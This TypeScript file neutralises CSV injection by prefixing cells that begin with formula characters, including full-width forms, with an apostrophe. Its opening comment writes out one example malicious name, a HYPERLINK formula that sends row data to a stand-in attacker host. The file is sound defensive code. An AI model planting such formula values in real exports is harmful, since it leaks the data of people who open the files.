// A spreadsheet opening a CSV runs any cell that starts like a formula (CSV injection: a signer named
// `=HYPERLINK("https://evil.example?"&A1)` would leak the row to whoever clicks it). Such cells get a
// leading apostrophe, which spreadsheets read as "this is text". Names like that are refused at sign-up
// (lib/validation/fields.ts); this is the second wall, for whatever got in before or some other way.

/** `= + - @`, tab and carriage return, and the full-width forms some spreadsheets also read as formulas. */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export function neutraliseCell(value: string): string {
  return formulaStart.test(value) ? `'${value}` : value;
}
